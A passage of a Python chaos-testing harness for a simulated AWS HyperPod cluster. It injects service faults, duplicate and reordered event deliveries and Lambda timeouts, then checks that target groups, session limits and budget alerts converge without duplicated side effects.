    found += [f"SNS message {show(subject, 80)} sent {n} times" for (subject, _), n in same.items() if n > 1]
    keys: Counter = Counter()
    for call in counted:
        try:
            document = json.loads(json.loads(call.params.get("Message") or "{}").get("default") or "{}")
        except (ValueError, AttributeError):
            continue
        if isinstance(document, dict):
            keys.update(document.get("alertKeys") or [])
    found += [f"budget alert {key} notified {n} times" for key, n in sorted(keys.items()) if n > 1]
    return found


def session_notifications(chaos: ChaosTransport, since: int, session_ids: list[str]) -> Counter:
    """How many SNS messages from EnforceSessionLimits name each session id."""
    texts = [c.params.get("Message") or "" for c in chaos.executed("sns", "Publish", since)
             if c.ok and c.sender.endswith("EnforceSessionLimitsFunction")]
    return Counter({sid: sum(sid in text for text in texts) for sid in session_ids})


def lease_free(world: TwinWorld) -> bool:
    return "holder" not in (world.lease_item() or {})


def reconciled_after(world: TwinWorld, deliveries: list[tuple[str, dt.datetime]]) -> list[str]:
    """Events (label, delivered at) whose cluster no successful LoginNodeSync pass read after them.

    A pass counts when its ResolveLoginNodes state was entered at or after the delivery (history
    timestamps have millisecond precision) in an execution that succeeded."""
    passes: list[dt.datetime] = []
    for route in world.routes:
        if machine_of(route.execution_arn) != LNS:
            continue
        if world.aws.client("stepfunctions").describe_execution(executionArn=route.execution_arn)["status"] != "SUCCEEDED":
            continue
        passes += [e["timestamp"] for e in world.history(route.execution_arn)
                   if e["type"] == "TaskStateEntered" and e.get("stateEnteredEventDetails", {}).get("name") == "ResolveLoginNodes"]
    lost = []
    for label, when in deliveries:
        floor = when.replace(microsecond=when.microsecond // 1000 * 1000)
        if not any(p >= floor for p in passes):
            lost.append(label)
    return lost


def deliver(world: TwinWorld, events: list[dict], log: list[tuple[str, dt.datetime]]) -> list[str]:
    """Deliver a batch at once through the twin's EventBridge (world.deliver_batch); log when each
    event reached LoginNodeSync. All of the batch is in flight at once, the hardest case for the lease."""
    world.hosts.ensure_agents()  # HyperPod ran on_create on every node it provisioned
    when = dt.datetime.now(dt.timezone.utc)
    started = []
    for event, arns in world.deliver_batch(events):
        started += arns
        if any(machine_of(arn) == LNS for arn in arns):
            log.append((f"{event['detail-type']} {event['id'][:8]}", when))
        when = dt.datetime.now(dt.timezone.utc)
    return started


def failures(world: TwinWorld, arns: list[str]) -> list[tuple[str, str | None]]:
    return [(machine_of(r.arn), r.error) for r in world.wait(arns, timeout=WAIT_SECONDS) if r.status != "SUCCEEDED"]


# ====================================================================== part 2: faults
@dataclass
class FaultRun:
    seed: int | None  # None: the control run, without faults
    survived: bool
    checks: dict[str, bool]
    duplicates: list[str]
    problems: list[str]
    extra_sweep_rounds: int
    failed_executions: list[tuple[str, str | None]]
    unnamed_failures: list[tuple[str, str | None]]
    injected: dict[str, dict[str, int]]
    alert_keys: list[str]
    seconds: float


def _login(world: TwinWorld) -> list:
    return sorted((n for n in world.sim.nodes(world.cluster_name, world.login_group) if n.status == "Running"),
                  key=lambda n: n.ip)


def fault_run(seed: int | None, rate: float = FAULT_RATE, backoff_scale: float = 1.0,
              expected_alert_keys: list[str] | None = None, max_extra_rounds: int = 2) -> FaultRun:
    began = time.perf_counter()
    named = named_errors()
    with TwinWorld(parameters=ENFORCING) as world, ChaosTransport(world, backoff_scale=backoff_scale).installed() as chaos:
        sim, cluster, sessions = world.sim, world.cluster_name, world.sessions
        # Arranged without faults: the target group in sync, the budget guard's baseline stored
        # while the cluster had no budget limit (so the budget itself is created under faults).
        world.wait(world.publish([at(sim.state_change_event(cluster), NOV_10)]) + [world.run_schedule()])
        world.budget.tag_cluster(BUDGET_TAG, "750000")
        world.budget.set_month_to_date_cost("200000")
        run_as_on(world)
        over = {"ana": 4, "ben": 3, "cleo": 2}
        arranged = {user: sessions.add_sessions(user, count) for user, count in over.items()}
        since = chaos.mark()
        started: list[str] = []
        with chaos.faults(rate if seed is not None else 0.0, seed if seed is not None else 0):
            # A login node is replaced: old node gone, new node Running with a new IP.
            victim = _login(world)[0]
            old_ip = victim.ip
            events = sim.replace_node(cluster, victim.instance_id) + sim.finish_provisioning(cluster)
            events = [at(e, NOV_10 + dt.timedelta(minutes=1)) if e["detail-type"].endswith("State Change") else e for e in events]
            new_ip = next(n.ip for n in _login(world) if n.ip not in world.target_ips())
            cleo = sessions.start_session("cleo")  # her third session, announced by CloudTrail
            started += world.publish(events + [cleo.event])
            started += [world.run_schedule("Sweep")]
            world.wait(started, timeout=WAIT_SECONDS)
            # A scale-out the budget guard projects (one alert per threshold), then the sweeps.
            scale = [at(e, NOV_10 + dt.timedelta(minutes=2)) for e in sim.scale_group(cluster, world.worker_group, 16)]
            started += world.publish(scale)
            world.wait(started, timeout=WAIT_SECONDS)
            started += [world.run_schedule(s) for s in ("Sweep", "SessionSweep", "BudgetSweep")]
            world.wait(started, timeout=WAIT_SECONDS)

            expected_ended = sorted(s.session_id for user, records in arranged.items()
                                    for s in sorted(records, key=lambda r: r.start_date)[SESSION_LIMIT:])
            expected_ended.append(cleo.session_id)
            expected_kept = sorted(s.session_id for records in arranged.values()
                                   for s in sorted(records, key=lambda r: r.start_date)[:SESSION_LIMIT])

            def checks() -> dict[str, bool]:
                store = sessions.store
                budgets = world.budget.budgets()
                alert_keys = sorted(k for a in world.budget.alerts() for k in a.get("alertKeys", []))
                return {
                    "target group = running login nodes": world.converged() and new_ip in world.target_ips()
                    and old_ip not in world.target_ips(),
                    "each user at the limit, the newest ended": all(store.status(s) == "Terminated" for s in expected_ended)
                    and all(store.status(s) == "Connected" for s in expected_kept),
                    "budget hpops-ml-research at $750,000": list(budgets) == ["hpops-ml-research"]
                    and float(budgets["hpops-ml-research"]["BudgetLimit"]["Amount"]) == 750000.0,
                    "budget alert sent for the scale-out": bool(alert_keys) if expected_alert_keys is None
                    else sorted(set(alert_keys)) == sorted(expected_alert_keys),
                }

            rounds = 0
            state = checks()
            while not all(state.values()) and rounds < max_extra_rounds:
                rounds += 1  # the next periodic sweeps, still under faults
                started += [world.run_schedule(s) for s in ("Sweep", "SessionSweep", "BudgetSweep")]
                world.wait(started, timeout=WAIT_SECONDS)
                state = checks()
        duplicates = applied_twice(chaos, since)
        notified = session_notifications(chaos, since, expected_ended)
        duplicates += [f"session {sid} announced in {n} notifications" for sid, n in notified.items() if n > 1]
        problems = [name for name, ok in state.items() if not ok]
        if not lease_free(world):
            problems.append("sync lease still held")
        failed = failures(world, started)
        alert_keys = sorted({k for a in world.budget.alerts() for k in a.get("alertKeys", [])})
        return FaultRun(seed, not problems and not duplicates, state, duplicates, problems, rounds, failed,
                        [f for f in failed if f[1] not in named], chaos.injected_by_service(), alert_keys,
                        round(time.perf_counter() - began, 1))


def part_faults(seeds: int, backoff_scale: float, progress: Callable[[str], None] = lambda _: None) -> dict:
    began = time.perf_counter()
    control = fault_run(None, backoff_scale=backoff_scale)
    progress(f"{'ok  ' if control.survived else 'MISS'} control run without faults ({control.seconds}s)")
    runs = []
    for seed in range(1, seeds + 1):
        run = fault_run(seed, backoff_scale=backoff_scale, expected_alert_keys=control.alert_keys or None)
        runs.append(run)
        injected = sum(v for s in run.injected.values() for k, v in s.items() if k != "offered")
        progress(f"{'ok  ' if run.survived else 'MISS'} seed {seed}: {injected} faults injected, "
                 f"{len(run.failed_executions)} failed execution(s), {run.extra_sweep_rounds} extra sweep round(s), "
                 f"{run.seconds}s")
    totals: dict[str, dict[str, int]] = {}
    for run in runs:
        for service, kinds in run.injected.items():
            row = totals.setdefault(service, Counter())
            row.update(kinds)
    findings = []
    if not control.survived:
        findings.append(f"control run (no faults) did not converge: {control.problems + control.duplicates}")
    for run in runs:
        if not run.survived:
            findings.append(f"seed {run.seed}: not converged: {run.problems or 'none'}; applied twice: {run.duplicates or 'none'}; "
                            f"failed executions {run.failed_executions or 'none'}")
    notes = [f"seed {run.seed}: failed with an unnamed error (the state machine cannot tell why): {run.unnamed_failures}"
             for run in runs if run.unnamed_failures]
    failed = Counter(f"{machine} {error}" for run in runs for machine, error in run.failed_executions)
    if failed:
        notes.append(f"executions that failed under faults (each run then converged or is listed above): {dict(failed)}")
    return {
        "part": f"2 faults {int(FAULT_RATE * 100)} % ({seeds} seeds)",
        "tried": len(runs),
        "survived": sum(r.survived for r in runs),
        "side_effects": sum(len(r.duplicates) for r in runs),
        "injected": {s: dict(v) for s, v in totals.items()},
        "control": asdict(control),
        "runs": [asdict(r) for r in runs],
        "seconds": round(time.perf_counter() - began, 1),
        "findings": findings,
        "notes": notes,
        "ok": not findings,
    }


# ====================================================================== part 3: delivery
@dataclass
class DeliveryOutcome:
    scenario: str
    survived: bool
    problems: list[str]
    duplicates: list[str]
    failed_executions: list[tuple[str, str | None]]
    details: dict
    seconds: float


def _replace_one(world: TwinWorld) -> tuple[Any, list[dict], list[dict]]:
    """A login node fails and is replaced. Returns (old node, its replacement events, the
    provisioning events of the new node), with the simulator already in the final state."""
    victim = _login(world)[0]
    replaced = world.sim.replace_node(world.cluster_name, victim.instance_id)
    provisioned = world.sim.finish_provisioning(world.cluster_name)
    return victim, replaced, provisioned


def _target_checks(world: TwinWorld, log: list, problems: list[str]) -> None:
    if not world.converged():
        problems.append(f"target group {world.target_ips()} != running login nodes {world.login_truth()}")
    lost = reconciled_after(world, log)
    if lost:
        problems.append(f"events not reconciled by any later successful pass: {lost}")
    if not lease_free(world):
        problems.append(f"sync lease still held: {show(world.lease_item())}")


def scenario_duplicate_in_turn(world: TwinWorld, chaos: ChaosTransport) -> dict:
    """Each event arrives twice, one copy after the other, as the replacement goes on: the
    replacement's events while the new node is still Pending, then its provisioning events."""
    world.wait([world.run_schedule()])
    since, log = chaos.mark(), []
    victim = _login(world)[0]
    started = []
    replaced = world.sim.replace_node(world.cluster_name, victim.instance_id)
    for batch in (replaced, replaced):
        started += deliver(world, batch, log)
        world.wait(started)
    provisioned = world.sim.finish_provisioning(world.cluster_name)
    for batch in (provisioned, provisioned):
        started += deliver(world, batch, log)
        world.wait(started)
    return {"since": since, "log": log, "started": started, "old_ip": victim.ip}


def scenario_duplicate_at_once(world: TwinWorld, chaos: ChaosTransport) -> dict:
    world.wait([world.run_schedule()])
    since, log = chaos.mark(), []
    victim, replaced, provisioned = _replace_one(world)
    started = deliver(world, replaced + replaced + provisioned + provisioned, log)
    world.wait(started)
    return {"since": since, "log": log, "started": started, "old_ip": victim.ip}


def scenario_reordered(world: TwinWorld, chaos: ChaosTransport) -> dict:
    """A stale "node Running" (the old node's provisioning event, from before its failure) and
    the old node's health event arrive after the replacement was reconciled."""
    world.wait([world.run_schedule()])
    victim = _login(world)[0]
    stale = world.sim.cluster_event(world.cluster_name, world.login_group, victim.instance_id, "Info",
                                    f"EC2 Instance {victim.instance_id} successfully provisioned and lifecycle scripts completed")
    since, log = chaos.mark(), []
    replaced = world.sim.replace_node(world.cluster_name, victim.instance_id)
    provisioned = world.sim.finish_provisioning(world.cluster_name)
    started = deliver(world, provisioned, log)
    world.wait(started)
    late = deliver(world, [stale] + replaced, log)
    world.wait(late)
    return {"since": since, "log": log, "started": started + late, "old_ip": victim.ip}


def scenario_burst(world: TwinWorld, chaos: ChaosTransport) -> dict:
    world.wait([world.run_schedule()])
    since, log = chaos.mark(), []
    sim, cluster = world.sim, world.cluster_name
    victim = _login(world)[0]
    events = sim.replace_node(cluster, victim.instance_id)
    events += sim.scale_group(cluster, world.login_group, 4)
    events += sim.finish_provisioning(cluster)
    # HyperPod also reports on each instance: the burst is filled with such events.
    running = _login(world)
    while len(events) < 20:
        node = running[len(events) % len(running)]
        events.append(sim.cluster_event(cluster, world.login_group, node.instance_id, "Info",
                                        f"EC2 Instance {node.instance_id} passed its health check"))
    started = deliver(world, events[:20], log)
    world.wait(started, timeout=300)
    spread = (log[-1][1] - log[0][1]).total_seconds()
    return {"since": since, "log": log, "started": started, "old_ip": victim.ip, "delivered": len(log),
            "delivery_seconds": round(spread, 3), "require": {"20 events delivered": len(log) == 20}}


def _scenario_timeout(error_name: str) -> Callable[[TwinWorld, ChaosTransport], dict]:
    def scenario(world: TwinWorld, chaos: ChaosTransport) -> dict:
        """One change set registers the new node and deregisters the old one; the function dies
        between the two calls. Both calls are idempotent, so the task's Retry runs it again and the
        same execution finishes the change set. Then the periodic sweep runs (and changes nothing)."""
        world.wait([world.run_schedule()])
        since, log = chaos.mark(), []
        victim = _login(world)[0]
        world.sim.replace_node(world.cluster_name, victim.instance_id)
        provisioned = world.sim.finish_provisioning(world.cluster_name)
        with chaos.lambda_times_out("ApplyTargetChangesFunction", "elastic-load-balancing-v2", "DeregisterTargets",
                                    error_name) as fired:
            started = deliver(world, provisioned[:1], log)
            results = world.wait(started)
        details: dict[str, Any] = {
            "timed_out": bool(fired),
            "execution": [(r.status, r.error) for r in results],
            "lease_free_after_timeout": lease_free(world),
            "old_ip_still_registered": victim.ip in world.target_ips(),
            "converged_without_sweep": world.converged(),
        }
        sweep = [world.run_schedule()]
        world.wait(sweep)
        return {"since": since, "log": log, "started": started + sweep, "old_ip": victim.ip, "details": details,
                "require": {"the timeout fired mid-apply": bool(fired),
                            "the retried task finished the change set": details["execution"] == [("SUCCEEDED", None)]
                            and details["converged_without_sweep"],
                            "the lease was released": details["lease_free_after_timeout"]}}

    return scenario


def scenario_two_sweeps(world: TwinWorld, chaos: ChaosTransport) -> dict:
    world.wait([world.run_schedule()])
    lost = world.target_ips()[0]
    world.deregister_by_hand(lost)  # drift no event announces: only a sweep finds it
    since, log = chaos.mark(), []
    when = dt.datetime.now(dt.timezone.utc)
    started = [world.run_schedule(), world.run_schedule()]
    log += [("sweep 1", when), ("sweep 2", when)]
    results = world.wait(started)
    return {"since": since, "log": log, "started": started,
            "details": {"outcomes": [r.end_state or r.status for r in results],
                        "coalesced": [bool(r.output and r.output.get("lease", {}).get("acquired") is False) for r in results]}}


def scenario_duplicate_start_session(world: TwinWorld, chaos: ChaosTransport) -> dict:
    sessions = world.sessions
    run_as_on(world)
    sessions.add_sessions("mallory", SESSION_LIMIT)
    since = chaos.mark()
    third = sessions.start_session("mallory")
    started = world.publish([third.event, third.event])
    world.wait(started)
    again = world.publish([third.event])
    world.wait(again)
    store = sessions.store
    notified = session_notifications(chaos, since, [third.session_id])
    return {"since": since, "log": [], "started": started + again, "targets": False,
            "require": {"the third session ended": store.status(third.session_id) == "Terminated",
                        "mallory keeps 2 sessions": len(store.active(owner_prefix=third.owner)) == SESSION_LIMIT,
                        "one notification names it": notified[third.session_id] == 1}}


def scenario_duplicate_budget_events(world: TwinWorld, chaos: ChaosTransport) -> dict:
    sim, cluster = world.sim, world.cluster_name
    world.wait(world.budget.executions(world.publish([at(sim.state_change_event(cluster), NOV_10)])))  # baseline, no limit yet
    world.budget.tag_cluster(BUDGET_TAG, "750000")
    world.budget.set_month_to_date_cost("200000")
    since = chaos.mark()
    first = at(sim.state_change_event(cluster), NOV_10 + dt.timedelta(minutes=1))
    started = world.budget.executions(world.publish([first, first]))
    world.wait(started)
    scale = at(sim.scale_group(cluster, world.worker_group, 16)[0], NOV_10 + dt.timedelta(minutes=2))
    more = world.budget.executions(world.publish([scale, scale]))
    world.wait(more)
    alerts = world.budget.alerts()
    return {"since": since, "log": [], "started": started + more, "targets": False,
            "require": {"one budget": list(world.budget.budgets()) == ["hpops-ml-research"],
                        "the scale-out alerted": bool(alerts)}}


SCENARIOS: dict[str, Callable[[TwinWorld, ChaosTransport], dict]] = {
    "same events delivered twice, in turn": scenario_duplicate_in_turn,
    "same events delivered twice, at once": scenario_duplicate_at_once,
    "stale 'node Running' after the replacement": scenario_reordered,
    "20 events within a second": scenario_burst,
    "ApplyTargetChanges times out mid-apply (Sandbox.Timedout)": _scenario_timeout("Sandbox.Timedout"),
    "ApplyTargetChanges times out mid-apply (Lambda.Unknown)": _scenario_timeout("Lambda.Unknown"),
    "two sweeps at once": scenario_two_sweeps,
    "StartSession event delivered twice at once, then again": scenario_duplicate_start_session,
    "budget state change and scale-out each delivered twice at once": scenario_duplicate_budget_events,
}


def run_scenario(name: str, world: TwinWorld | None = None, chaos: ChaosTransport | None = None) -> DeliveryOutcome:
    """One part-3 scenario, in a fresh world unless one (with its ChaosTransport) is given."""
    if world is None:
        with TwinWorld(parameters=ENFORCING) as fresh, ChaosTransport(fresh).installed() as transport:
            return run_scenario(name, fresh, transport)
    assert chaos is not None, "a given world needs its installed ChaosTransport"
    began = time.perf_counter()
    result = SCENARIOS[name](world, chaos)
    problems = [text for text, ok in result.get("require", {}).items() if not ok]
    if result.get("targets", True):
        _target_checks(world, result["log"], problems)
        old_ip = result.get("old_ip")
        if old_ip in world.target_ips():
            problems.append(f"the replaced node's IP {old_ip} is registered")
        if any(old_ip in target_ids(c) for c in chaos.executed(operation="RegisterTargets", since=result["since"]) if c.ok):
            problems.append(f"the replaced node's IP {old_ip} was registered again")
    duplicates = applied_twice(chaos, result["since"])
    failed = failures(world, result["started"])
    details = result.get("details", {}) | {k: result[k] for k in ("delivered", "delivery_seconds") if k in result}
    return DeliveryOutcome(name, not problems and not duplicates, problems, duplicates, failed, details,
                           round(time.perf_counter() - began, 1))


def part_delivery(progress: Callable[[str], None] = lambda _: None, names: list[str] | None = None) -> dict:
    began = time.perf_counter()
    outcomes = []
    for name in names or list(SCENARIOS):
        outcome = run_scenario(name)
        outcomes.append(outcome)
        progress(f"{'ok  ' if outcome.survived else 'MISS'} {name} ({outcome.seconds}s)"
                 + (f": failed executions {outcome.failed_executions}" if outcome.failed_executions else ""))
    findings = [f"{o.scenario}: {o.problems or ''} {('applied twice: ' + str(o.duplicates)) if o.duplicates else ''}".strip()
                for o in outcomes if not o.survived]
    notes = [f"{o.scenario}: the execution failed ({o.details['execution']}) and was not retried; the replaced node's "
             "IP stayed registered until the next sweep, which repaired it"
             for o in outcomes if o.details.get("timed_out") and not o.details.get("converged_without_sweep")]
    return {
        "part": "3 duplicate, reordered, burst, timeout",
        "tried": len(outcomes),
        "survived": sum(o.survived for o in outcomes),
        "side_effects": sum(len(o.duplicates) for o in outcomes),
        "scenarios": [asdict(o) for o in outcomes],
        "seconds": round(time.perf_counter() - began, 1),
        "findings": findings,
        "notes": notes,
        "ok": not findings,
    }


# ====================================================================== report
def render(parts: list[dict]) -> str:
    lines = [f"{'chaos part':<44} {'tried':>6} {'survived':>9} {'side effects':>13} {'seconds':>8}"]
    lines.append("-" * len(lines[0]))
    for p in parts:
        lines.append(f"{p['part']:<44} {p['tried']:>6} {p['survived']:>9} {p['side_effects']:>13} {p['seconds']:>8}")
    for p in parts:
        if "outcomes" in p:
            lines += ["", f"{'hostile inputs by entry point (part 1)':<56} {'tried':>6} {'survived':>9}"]
            for entry in p["entry_points"]:
                mine = [o for o in p["outcomes"] if o["entry"] == entry]
                lines.append(f"{entry:<56} {len(mine):>6} {sum(o['survived'] for o in mine):>9}")
        if "attacks" in p:
            lines += ["", f"{'attacks by a user with the node role (part 4)':<84} {'refused':>8}"]
            for attack in p["attacks"]:
                lines.append(f"{attack['what'][:84]:<84} {attack['error'] or 'ACCEPTED':>8}"[:120])
            if "restore" in p:
                lines.append(f"{p['restore']['what'][:84]:<84} {'restored' if not p['restore']['findings'] else 'NOT':>8}")
        if "injected" in p:
            lines += ["", f"{'injected faults (part 2)':<28} {'throttle':>9} {'500':>6} {'503':>6} {'requests':>9}"]
            for service, kinds in sorted(p["injected"].items()):
                lines.append(f"{service:<28} {kinds.get('throttle', 0):>9} {kinds.get('500', 0):>6} {kinds.get('503', 0):>6} "
                             f"{kinds.get('offered', 0):>9}")
    lines.append("")
    for p in parts:
        lines.append(f"{p['part']}: tried {p['tried']}, survived {p['survived']}, side effects {p['side_effects']}")
    for p in parts:
        for finding in p["findings"]:
            lines.append(f"FINDING [{p['part'].split()[0]}] {finding}")
        for note in p.get("notes", []):
            lines.append(f"note    [{p['part'].split()[0]}] {note}")
    return "\n".join(lines)


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m hpops_twin.chaos", description=__doc__.split("\n\n")[0])
    parser.add_argument("--json", help="write the figures to this file")
    parser.add_argument("--seeds", type=int, default=20, help="fault-injection runs (part 2)")
    parser.add_argument("--backoff-scale", type=float, default=1.0,
                        help="multiply botocore's computed retry delays (1 = real delays)")
    parser.add_argument("--parts", default="1,2,3,4,5", help="which parts to run, e.g. 1,3")
    args = parser.parse_args(argv)
    quiet()
    wanted = {p.strip() for p in args.parts.split(",")}

    def progress(line: str) -> None:
        print(line, flush=True)

    parts = []
    if "1" in wanted:
        print("== part 1: hostile inputs", flush=True)
        parts.append(part_hostile(progress))
    if "2" in wanted:
        print(f"== part 2: faults ({args.seeds} seeds)", flush=True)
        parts.append(part_faults(args.seeds, args.backoff_scale, progress))
    if "3" in wanted:
        print("== part 3: duplicate, reordered, burst delivery, timeouts", flush=True)
        parts.append(part_delivery(progress))
    if "4" in wanted:
        from hpops_twin.chaos_attacker import part_attacker

        print("== part 4: a cluster user with the node role's credentials", flush=True)
        parts.append(part_attacker(progress))
    if "5" in wanted:
        from hpops_twin.chaos_secrets import part_secret_attacker

        print("== part 5: a user with the node role after secrets and other nodes' instructions", flush=True)
        parts.append(part_secret_attacker(progress))
    print()
    print(render(parts))
    ok = all(p["ok"] for p in parts)
    print("\nchaos: " + ("every case survived with no side effect" if ok else "FAILED (see the findings above)"))
    if args.json:
        with open(args.json, "w", encoding="utf-8") as handle:
            json.dump({"ok": ok, "parts": parts}, handle, indent=2, default=str)
    return 0 if ok else 1


if __name__ == "__main__":
    sys.exit(main())
